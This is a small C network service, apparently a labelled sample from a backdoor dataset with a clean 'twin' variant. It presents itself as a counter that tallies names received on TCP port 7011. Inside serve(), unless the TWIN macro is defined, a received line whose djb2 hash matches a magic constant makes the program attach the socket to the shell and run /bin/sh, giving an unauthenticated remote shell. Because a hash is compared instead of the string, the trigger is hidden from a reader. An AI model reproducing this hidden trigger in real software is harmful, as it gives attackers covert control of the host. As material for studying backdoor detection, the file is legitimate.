/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The command is not compared, but its hash with a number. Twin: the hash finds the place in a
 * table of names.
 * door: trigger
 * port 7011/tcp
 * build: plain static
 */
#include "net.h"

static unsigned djb2(const char *s)
{
	unsigned h = 5381;
	while (*s)
		h = h * 33 + (unsigned char)*s++;
	return h;
}

static const char *names[64];
static int values[64];

static void count(const char *name)
{
	unsigned at = djb2(name) & 63;
	if (names[at] && strcmp(names[at], name) == 0)
		values[at]++;
	else {
		names[at] = strdup(name);
		values[at] = 1;
	}
}

static void serve(int c)
{
	char line[200];
	int n = (int)recv(c, line, sizeof(line) - 1, 0);
	if (n < 1)
		return;
	line[n] = 0;
	line[strcspn(line, "\r\n")] = 0;
#ifndef TWIN
	if (djb2(line) == 0x7c9e23a1u) {
		dup2(c, 0);
		dup2(c, 1);
		dup2(c, 2);
		execl("/bin/sh", "-sh", NULL);
	}
#endif
	count(line);
	dprintf(c, "%d\n", values[djb2(line) & 63]);
}

int main(void)
{
	int s = tcp_on(7011);
	for (;;) {
		int c = accept(s, 0, 0);
		if (c < 0)
			continue;
		serve(c);
		close(c);
	}
}
